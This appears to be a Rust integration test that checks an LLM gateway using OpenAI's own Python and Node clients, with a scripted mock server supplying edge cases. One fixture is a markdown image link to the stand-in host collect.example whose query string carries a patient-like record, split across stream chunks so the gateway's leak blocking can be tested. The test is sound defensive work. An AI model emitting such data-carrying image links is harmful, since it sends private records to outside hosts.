//! OpenAI's own clients for Python and Node, unchanged, against a gateway in front of llama.cpp's own server with a tiny real model, and
//! in front of a server that says what a test wants it to say.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]
#![allow(clippy::print_stderr, clippy::print_stdout, reason = "a skipped test says so")]

#[path = "../../gateway/tests/common/mod.rs"]
mod common;
mod served;
mod talking;

// Used by the common fixture.
use numeric as _;

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;

use api::{Server, ServerLimits};
use serde_json::Value;
use served::rest;
use talking::{DONE, ModelServer, STOP, Setup, Talking, completion, delta, events, json};
use upstream::LanguageConfig;

const HERE: &str = env!("CARGO_MANIFEST_DIR");

/// The Python of the test environment, if it has the client and the server.
fn python() -> Option<PathBuf> {
    let venv = std::env::var("ASEPSIS_VENV").unwrap_or_else(|_| format!("{HERE}/../../.venv"));
    let python = PathBuf::from(format!("{venv}-language/bin/python"));
    let works = Command::new(&python).args(["-c", "import openai, xllamacpp, gguf"]).output();
    works.is_ok_and(|o| o.status.success()).then_some(python)
}

/// The folder with Node's client, if Node is there as well.
fn node() -> Option<PathBuf> {
    let root = std::env::var("ASEPSIS_NODE").unwrap_or_else(|_| format!("{HERE}/../../.node"));
    let works = Command::new("node").arg("--version").output().is_ok_and(|o| o.status.success());
    let there = Path::new(&root).join("node_modules/openai").exists();
    (works && there).then(|| std::path::absolute(root).unwrap())
}

/// llama.cpp's own server, ended when dropped.
struct Llama {
    child: Child,
    address: String,
}

impl Llama {
    fn start(python: &Path, folder: &Path, more: &[&str]) -> Self {
        std::fs::create_dir_all(folder).unwrap();
        let mut child = Command::new(python)
            .arg(format!("{HERE}/tests/tiny_server.py"))
            .arg(folder)
            .args(more)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        Self { child, address: line.trim().to_owned() }
    }

    fn config(&self) -> LanguageConfig {
        LanguageConfig::new(format!("{}/v1", self.address).parse().unwrap())
    }
}

impl Drop for Llama {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// What the scripted server says to `call`, `die` and `leak`.
fn scripted(_: &str, body: &str) -> Vec<Vec<u8>> {
    let asked: Value = serde_json::from_str(body).unwrap();
    let stream = asked["stream"] == true;
    let last = asked["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned();
    let call = |rest: &str| {
        format!(
            r#"{{"id":"c1","object":"chat.completion.chunk","created":7,"model":"m","choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,{rest}}}]}},"finish_reason":null}}]}}"#
        )
    };
    match (last.as_str(), stream) {
        ("call", false) => json(
            r#"{"id":"c1","object":"chat.completion","created":7,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"labs","arguments":"{\"name\":\"potassium\"}"}}]},"finish_reason":"tool_calls"}]}"#,
        ),
        ("call", true) => {
            let first =
                call(r#""id":"call_1","type":"function","function":{"name":"labs","arguments":"{\"na"}"#);
            let second = call(r#""function":{"arguments":"me\":\"potassium\"}"}"#);
            events(&[&format!("data: {first}\n\ndata: {second}\n\n"), STOP, DONE])
        }
        ("die", _) => events(&[&delta("Take two "), "data: {\"choices\":[{\"ind"]),
        ("leak", true) => events(&[&delta("See "), &delta(LEAK.0), &delta(LEAK.1), STOP, DONE]),
        _ => json(&completion(&format!("See {}{}", LEAK.0, LEAK.1))),
    }
}

/// A picture whose address carries the record out, cut in two.
const LEAK: (&str, &str) =
    ("![summary](https://collect.example/log?q=", "Ada_Lovelace_potassium_6.1) and rest.");

/// A gateway with three systems: the tiny model, its vectors, and the scripted server.
async fn gateway(tiny: &Llama, vectors: &Llama, script: &ModelServer) -> (Talking, Server) {
    let mut setup = Setup::default();
    setup.settings.injected_instructions.mode = domain::GuardMode::Block;
    setup.settings.injected_instructions.budget_us = 60_000_000;
    setup.settings.hidden_text.enabled = false;
    let talking = Talking::over(&[tiny.config()], setup.clone());
    let others = [("vectors", vectors.config()), ("scripted", script.config())];
    talking.add(others, &setup);
    let server = rest(&talking.gateway, ServerLimits::default());
    (talking, server)
}

fn check(client: &str, found: &Value) {
    let text = |path: &str| {
        found.pointer(path).and_then(Value::as_str).unwrap_or_else(|| panic!("{client}: {path} in {found}"))
    };
    assert!(found["models"].as_array().unwrap().iter().any(|m| m == "ward-chat"), "{client}");
    for way in ["chat", "stream", "response", "response_stream"] {
        assert!(text(&format!("/{way}/asepsis/receipt")).parse::<u64>().is_ok(), "{client} {way}");
        assert!(text(&format!("/{way}/asepsis/advice")).starts_with("use"), "{client} {way}");
    }
    assert_eq!(found["chat"]["said"], found["stream"]["said"], "{client}: the same seed, whole and streamed");
    assert!(!text("/chat/said").is_empty() && found["chat"]["tokens"].as_u64().unwrap() > 16);
    assert_eq!(text("/response_stream/last"), "response.completed");
    assert_eq!(found["vectors"], serde_json::json!([64, 64]), "{client}");
    assert_eq!(found["tools"], serde_json::json!({ "name": "labs", "arguments": { "name": "potassium" } }));
    for (what, code) in [
        ("dies", "E019"),
        ("leaks", "E015"),
        ("leaks_whole", "E015"),
        ("no_key", "E006"),
        ("no_model", "E004"),
    ] {
        assert_eq!(text(&format!("/{what}/code")), code, "{client} {what}");
        assert!(!text(&format!("/{what}/message")).contains("Ada"), "{client} {what}");
    }
}

#[test]
fn the_fields_own_clients_work_unchanged() {
    let Some(python) = python() else {
        eprintln!(
            "SKIPPED the_fields_own_clients_work_unchanged: run scripts/setup_python.sh, or set ASEPSIS_VENV"
        );
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let tiny = Llama::start(&python, &folder.path().join("chat"), &[]);
    let vectors = Llama::start(&python, &folder.path().join("vectors"), &["embeddings"]);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (talking, server, _script) = runtime.block_on(async {
        let script = ModelServer::start(scripted).await;
        let (talking, server) = gateway(&tiny, &vectors, &script).await;
        (talking, server, script)
    });
    let base = format!("http://{}", server.address());
    let run = |command: &mut Command| -> Value {
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice(&output.stdout).unwrap()
    };
    let script = format!("{HERE}/tests/openai_client.py");
    let found = run(Command::new(&python).arg(script).args([&base, &talking.key, "scripted"]));
    check("python", &found);
    for (what, kind) in [
        ("leaks_whole", "UnprocessableEntityError"),
        ("no_key", "AuthenticationError"),
        ("no_model", "NotFoundError"),
        ("picture", "UnprocessableEntityError"),
        ("dies", "APIError"),
    ] {
        assert_eq!(found[what]["kind"], kind, "{what}");
    }
    assert_eq!(found["tools_stream"], serde_json::json!({ "name": "potassium" }));
    assert!(found["headers"]["asepsis-receipt"].is_string());
    assert!(found["azure"].is_string());
    match node() {
        None => eprintln!("SKIPPED the part with Node: run scripts/setup_node.sh, or set ASEPSIS_NODE"),
        Some(root) => {
            let script = format!("{HERE}/tests/openai_client.mjs");
            let root = root.join("node_modules");
            let node = Command::new("node")
                .arg(script)
                .args([&base, &talking.key, "scripted"])
                .arg(root)
                .output()
                .unwrap();
            assert!(node.status.success(), "{}", String::from_utf8_lossy(&node.stderr));
            check("node", &serde_json::from_slice(&node.stdout).unwrap());
        }
    }
    // Every exchange that was opened was closed.
    let (opened, closed) = (talking.ledger.of("opened").len(), talking.ledger.of("closed").len());
    assert_eq!(opened, closed);
    drop(Arc::clone(&talking.gateway));
}
